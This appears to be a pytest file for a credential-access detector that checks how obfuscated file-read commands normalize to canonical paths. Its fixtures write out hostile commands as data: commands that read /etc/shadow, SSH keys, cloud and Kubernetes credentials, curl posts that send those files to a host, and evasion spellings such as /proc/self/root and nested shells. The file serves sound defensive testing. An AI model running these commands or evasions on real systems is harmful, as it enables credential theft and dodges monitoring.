"""credwatch.normalized.paths: every spelling of a file gives its canonical path, from the event alone."""

from __future__ import annotations

import time
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from credwatch.backends.deriving import DerivedHit, deriving
from credwatch.backends.python import compile_query
from credwatch.kql.parser import parse
from credwatch.normalize.derived import Gate, uses_derived_fields
from credwatch.normalize.paths import (
    FIELD,
    MAX_PATHS,
    READ_FIELD,
    Origin,
    canonical_path,
    context_of,
    derived_fields,
    normalized_paths,
    path_origins,
    quoted_strings,
    shell_words,
)


def ev(*args: str, cwd: str | None = "/root", pid: int | None = 4242, user: str | None = "root",
       exe: str | None = None, **extra: Any) -> dict[str, Any]:
    event: dict[str, Any] = {"process.args": list(args), **extra}
    if cwd is not None:
        event["process.working_directory"] = cwd
    if pid is not None:
        event["process.pid"] = pid
    if user is not None:
        event["user.name"] = user
    if exe is not None:
        event["process.executable"] = exe
    return event


SA = "/var/run/secrets/kubernetes.io/serviceaccount"
# a dotted field name is not a keyword; typed as ev()'s **extra so it cannot fill cwd/pid
_UID0: dict[str, Any] = {"user.id": "0"}

# (event, a path that must be derived)
SPELLINGS = [
    pytest.param(ev("cat", "/run/secrets/kubernetes.io/serviceaccount/token"), f"{SA}/token", id="run-to-var-run"),
    pytest.param(ev("cat", "/etc/../etc//./shadow"), "/etc/shadow", id="dots-and-slashes"),
    pytest.param(ev("cat", "credentials", cwd="/root/.aws"), "/root/.aws/credentials", id="relative"),
    pytest.param(ev("cat", "../.aws/credentials", cwd="/root/.ssh"), "/root/.aws/credentials", id="relative-up"),
    pytest.param(ev("cat", "/proc/self/root/etc/shadow"), "/etc/shadow", id="proc-self-root"),
    pytest.param(ev("cat", "/proc/thread-self/root/root/.ssh/id_rsa"), "/root/.ssh/id_rsa", id="proc-thread-self-root"),
    pytest.param(ev("cat", "/proc/1/root/etc/shadow"), "/etc/shadow", id="proc-pid-root"),
    pytest.param(ev("cat", "/proc/self/root/../../etc/shadow"), "/etc/shadow", id="proc-root-dotdot"),
    pytest.param(ev("cat", "/proc/4242/cwd/config", cwd="/root/.kube"), "/root/.kube/config", id="proc-own-cwd"),
    pytest.param(ev("cat", "/proc/self/cwd/config", cwd="/root/.kube"), "/root/.kube/config", id="proc-self-cwd"),
    pytest.param(ev("sh", "-c", "cat ../token", cwd=f"{SA}/..data"), f"{SA}/token", id="issue-example"),
    pytest.param(ev("sh", "-c", "cat /etc/shadow"), "/etc/shadow", id="sh-c"),
    pytest.param(ev("bash", "-lc", "cd /root/.aws; cat credentials", cwd="/"), "/root/.aws/credentials", id="cd-in-code"),
    pytest.param(ev("sh", "-c", "sh -c 'bash -c \"tac /etc/shadow\"'"), "/etc/shadow", id="nested-shells"),
    pytest.param(ev("su", "-c", "cat /etc/shadow", "root"), "/etc/shadow", id="su-c"),
    pytest.param(ev("busybox", "sh", "-c", "cat /etc/shadow"), "/etc/shadow", id="busybox-sh"),
    pytest.param(ev("bash", "-c", "base64 </etc/shadow"), "/etc/shadow", id="redirect-glued"),
    pytest.param(ev("bash", "-c", "while read l; do :; done < /root/.netrc"), "/root/.netrc", id="redirect"),
    pytest.param(ev("bash", "-c", "echo $(</root/.vault-token)"), "/root/.vault-token", id="dollar-redirect"),
    pytest.param(ev("curl", "-d", "@/root/.aws/credentials", "http://x/"), "/root/.aws/credentials", id="curl-at"),
    pytest.param(ev("curl", "--data-binary=@/root/.ssh/id_rsa", "http://x/"), "/root/.ssh/id_rsa", id="opt-eq-at"),
    pytest.param(ev("curl", "-F", "file=@/root/.kube/config", "http://x/"), "/root/.kube/config", id="form-at"),
    pytest.param(ev("curl", "file:///etc/shadow"), "/etc/shadow", id="file-url"),
    pytest.param(ev("dd", "if=/etc/shadow", "of=/tmp/x"), "/etc/shadow", id="dd-if"),
    pytest.param(ev("kubectl", "--kubeconfig=/etc/kubernetes/admin.conf", "get", "pods"),
                 "/etc/kubernetes/admin.conf", id="kubeconfig-opt"),
    pytest.param(ev("ssh", "-i/root/.ssh/id_ed25519", "host"), "/root/.ssh/id_ed25519", id="glued-short-opt"),
    pytest.param(ev("python3", "-c", "print(open('/root/.ssh/id_rsa').read())"), "/root/.ssh/id_rsa", id="python-c"),
    pytest.param(ev("perl", "-e", 'open(F, "</root/.kube/config"); print <F>'), "/root/.kube/config", id="perl-e"),
    pytest.param(ev("node", "-e", 'require("fs").readFileSync("/run/secrets/kubernetes.io/serviceaccount/token")'),
                 f"{SA}/token", id="node-e"),
    pytest.param(ev("php", "-r", "echo file_get_contents('/root/.netrc');"), "/root/.netrc", id="php-r"),
    pytest.param(ev("ruby", "-e", 'puts File.read("/root/.git-credentials")'), "/root/.git-credentials", id="ruby-e"),
    pytest.param(ev("python3", "-c", "import os; os.system('cat /etc/shadow')"), "/etc/shadow", id="shell-in-python"),
    pytest.param(ev("sh", "-c", "cat ~/.git-credentials"), "/root/.git-credentials", id="tilde-root"),
    pytest.param(ev("sh", "-c", "cat $HOME/.netrc", user="alice"), "/home/alice/.netrc", id="home-var-user"),
    pytest.param(ev("sh", "-c", "cat ${HOME}/.vault-token", user=None, **_UID0), "/root/.vault-token",
                 id="home-uid0"),
    pytest.param(ev("sh", "-c", "cat ~bob/.ssh/id_ed25519"), "/home/bob/.ssh/id_ed25519", id="tilde-user"),
    pytest.param(ev("env", "KUBECONFIG=/etc/kubernetes/super-admin.conf", "kubectl", "get", "nodes",
                    exe="/usr/bin/env"), "/etc/kubernetes/super-admin.conf", id="env-assignment"),
    pytest.param(ev("timeout", "5", "tac", "/root/.aws/credentials", exe="/usr/bin/timeout"),
                 "/root/.aws/credentials", id="wrapper"),
    pytest.param(ev("watch", "cat /etc/shadow"), "/etc/shadow", id="command-string-arg"),
    pytest.param({"process.command_line": "cat '/etc/shadow'", "process.working_directory": "/"}, "/etc/shadow",
                 id="command-line-without-args"),
    pytest.param({"process": {"args": ["cat", "/run/secrets/eks.amazonaws.com/serviceaccount/token"]}},
                 "/var/run/secrets/eks.amazonaws.com/serviceaccount/token", id="nested-event"),
]


@pytest.mark.parametrize(("event", "path"), SPELLINGS)
def test_spelling_gives_the_canonical_path(event: dict[str, Any], path: str) -> None:
    fields = derived_fields(event)
    assert path in fields[FIELD]
    assert path in fields[READ_FIELD]


KEPT_OR_DROPPED = [
    pytest.param(ev("cat", "/proc/77/cwd/config", cwd="/root/.kube"), "/root/.kube/config", id="other-pid-cwd"),
    pytest.param(ev("cat", "credentials", cwd=None), "/credentials", id="relative-without-cwd"),
    pytest.param(ev("cat", "credentials", cwd="relative/dir"), "/relative/dir/credentials", id="relative-cwd"),
    pytest.param(ev("sh", "-c", "cat ~/.netrc", user=None), "/root/.netrc", id="home-unknown"),
    pytest.param(ev("curl", "https://example.com/etc/shadow"), "/etc/shadow", id="url-is-not-a-file"),
    pytest.param(ev("cat", "/ETC/SHADOW"), "/etc/shadow", id="case-kept"),
]


@pytest.mark.parametrize(("event", "absent"), KEPT_OR_DROPPED)
def test_what_the_event_does_not_say_is_not_guessed(event: dict[str, Any], absent: str) -> None:
    assert absent not in normalized_paths(event)


def test_other_process_cwd_is_kept_as_written() -> None:
    assert normalized_paths(ev("cat", "/proc/77/cwd/config")) == ["/proc/77/cwd/config"]


def test_metadata_tools_name_paths_they_do_not_read() -> None:
    cases = [
        ev("sh", "-c", "ls -l /etc/shadow; test -f /etc/kubernetes/admin.conf && echo y"),
        ev("sudo", "ls", "-l", "/etc/shadow", exe="/usr/bin/sudo"),
        ev("nice", "-n", "5", "stat", "/root/.ssh/id_rsa", exe="/usr/bin/nice"),
        ev("bash", "-c", "find /root/.ssh/id_rsa -newer /etc/hostname"),
        ev("tar", "-czf", "/tmp/b.tgz", "--exclude=/etc/shadow", "--exclude", "/etc/gshadow", "/etc/hosts"),
        ev("bash", "-c", "ls /root/.kube/config > /root/.aws/credentials"),
    ]
    for event in cases:
        fields = derived_fields(event)
        named = {"/etc/shadow", "/etc/gshadow", "/root/.ssh/id_rsa", "/etc/kubernetes/admin.conf",
                 "/root/.kube/config", "/root/.aws/credentials"}
        assert named & set(fields[FIELD]), event  # named, so visible in the alert
        assert not named & set(fields[READ_FIELD]), (event, fields)


def test_a_copy_of_a_metadata_tool_elsewhere_is_a_reader() -> None:
    fields = derived_fields(ev("bash", "-c", "/tmp/ls /etc/shadow; find / -name x -exec cat /etc/gshadow ';'"))
    assert {"/etc/shadow", "/etc/gshadow"} <= set(fields[READ_FIELD])


def test_origin_names_the_argument() -> None:
    origins = path_origins(ev("sh", "-c", "cat ../token", cwd=f"{SA}/..data"))
    assert origins == [Origin(f"{SA}/token", "cat ../token", 2, True)]


def test_deriving_matcher_explains_with_the_original_command() -> None:
    matcher = deriving(compile_query(f'{READ_FIELD}:"{SA}/token"'))
    event = ev("sh", "-c", "cat ../token", cwd=f"{SA}/..data")
    assert matcher.matches(event)
    assert FIELD not in event  # the event itself is left as it was
    (hit,) = matcher.explain(event)
    assert isinstance(hit, DerivedHit)
    assert hit.argument == "sh -c 'cat ../token'" and hit.value == f"{SA}/token"


def test_an_event_cannot_supply_the_derived_field() -> None:
    matcher = deriving(compile_query(f'{READ_FIELD}:"/etc/shadow"'))
    assert not matcher.matches({"credwatch": {"normalized": {"read_paths": ["/etc/shadow"]}},
                                "process.args": ["cat", "/etc/hostname"]})


def test_only_queries_over_derived_fields_derive() -> None:
    assert uses_derived_fields(parse(f"{FIELD}:/etc/*"))
    assert uses_derived_fields(parse("credwatch.*:x"))
    assert uses_derived_fields(parse(f"not {READ_FIELD}:*"))
    assert not uses_derived_fields(parse("process.args:/etc/shadow"))
    matcher = compile_query("process.args:x")
    assert deriving(matcher) is matcher


# ---- bounds, linear time and properties -------------------------------------------------

def test_bounded_output_and_time_on_hostile_arguments() -> None:
    hostile = [
        ev("cat", *[f"/x/{i}" for i in range(100_000)]),
        ev("sh", "-c", "cat " + " ".join(f"/y/{i}" for i in range(100_000))),
        ev("python3", "-c", "'" * 200_000),
        ev("python3", "-c", "\"'`" * 100_000),
        ev("python3", "-c", "'/a' " * 100_000),
        ev("cat", "/" + "../" * 200_000 + "etc/shadow"),
        ev("cat", "/proc/self/root" * 50_000 + "/etc/shadow"),
        ev("sh", "-c", "sh -c " * 20_000 + "cat /etc/shadow"),
        ev("sh", "-c", "'" + "a" * 500_000),
        ev("bash", "-c", "<" * 300_000),
        ev("cat", "a" * 1_000_000, cwd="/" + "d/" * 100_000),
    ]
    for event in hostile:
        start = time.perf_counter()
        fields = derived_fields(event)
        elapsed = time.perf_counter() - start
        assert len(fields[FIELD]) <= MAX_PATHS
        # Generous: the real cost is a few milliseconds; quadratic work would take minutes.
        assert elapsed < 2.0, (elapsed, str(event)[:80])


def test_shell_words_falls_back_on_unbalanced_quotes() -> None:
    assert shell_words("cat 'unbalanced /etc/shadow") == ["cat", "'unbalanced", "/etc/shadow"]


def test_quoted_strings_pairs_each_quote_kind() -> None:
    assert list(quoted_strings("""open("/a") + '/b' + `cat /c` + "unclosed""")) == ["/a", "/b", "/c"]


_word = st.text(alphabet=st.sampled_from(list("/.~$-=@<>|;&()'\"` \tabcHOME{}0123456789")), max_size=40)
_event = st.fixed_dictionaries(
    {"process.args": st.lists(_word, max_size=8)},
    optional={"process.working_directory": _word, "process.pid": st.integers(0, 99999),
              "user.name": st.sampled_from(["root", "alice", "", "..", "a/b"]),
              "process.executable": st.sampled_from(["/usr/bin/bash", "/usr/bin/python3", "/usr/bin/env",
                                                     "/usr/bin/ls", "/tmp/x"])})


def _canonical(path: str) -> bool:
    return (path.startswith("/") and "//" not in path and "/./" not in path and "/../" not in path
            and not path.endswith(("/.", "/..")) and not path.startswith("/run/") and path != "/run")


@settings(max_examples=300, deadline=None)
@given(_event)
def test_paths_are_absolute_canonical_and_idempotent(event: dict[str, Any]) -> None:
    fields = derived_fields(event)
    ctx = context_of(event)
    assert set(fields[READ_FIELD]) <= set(fields[FIELD])
    for path in fields[FIELD]:
        assert isinstance(path, str) and _canonical(path), path
        if not path.startswith("/proc/"):  # /proc/<pid>/cwd/... of another process is kept as written
            assert canonical_path(path, ctx) == path
            assert normalized_paths({"process.args": ["cat", path]})[0] == path  # (words inside follow)


# ---- the gate: deriving is skipped only when it cannot change the answer -----------------

_CRED_WORDS = ["/etc/shadow", "cred''entials", "cd /root/.aws && cat cred\"entials\"", "id_\\rsa",
               "../token", "/run/secrets/kubernetes.io/serviceaccount/..data/token", "~/.netrc",
               "config", ".kube", "/proc/self/cwd/config", "$HOME/.vault-token", "sh", "-c", "cat",
               "ls", "/root/.ssh/id_ed25519", "if=/etc/gshadow", "@/root/.git-credentials"]
_gate_event = st.fixed_dictionaries(
    {"process.args": st.lists(st.one_of(st.sampled_from(_CRED_WORDS), _word), min_size=1, max_size=6)},
    optional={"process.working_directory": st.sampled_from(["/root/.aws", "/root/.kube", "/",
                                                            "/run/secrets/kubernetes.io/serviceaccount"]),
              "process.pid": st.just(4242),
              "user.name": st.sampled_from(["root", "alice", "credentials", "shadow"]),
              "process.executable": st.sampled_from(["/usr/bin/bash", "/usr/bin/cat", "/usr/bin/ls"])})


@settings(max_examples=500, deadline=None)
@given(_gate_event)
def test_gate_never_changes_the_verdict(event: dict[str, Any]) -> None:
    from credwatch.rules import load_rule

    query = load_rule("credwatch-credential-path-hardened").query
    event = {"host.os.type": "linux", "event.category": "process", "event.action": "exec", **event}
    full = compile_query(query).matches({**event, **derived_fields(event)})
    assert deriving(compile_query(query)).matches(event) is full


def test_gate_is_off_for_queries_it_cannot_bound() -> None:
    assert Gate.for_query(parse(f"{READ_FIELD}:*")) is None
    assert Gate.for_query(parse(f"{READ_FIELD}:/root/*")) is None  # "root" is written by home expansion
    assert Gate.for_query(parse("credwatch.*:x")) is None
    gate = Gate.for_query(parse(f'{READ_FIELD}:*/.aws/credentials or {FIELD}:"/etc/shadow"'))
    assert gate is not None
    assert gate.may_match(ev("bash", "-c", "cd /root/.aws && cat cred''entials"))
    assert gate.may_match(ev("cat", "x", cwd="/etc/shadow-dir"))
    assert not gate.may_match(ev("cat", "/etc/hostname"))
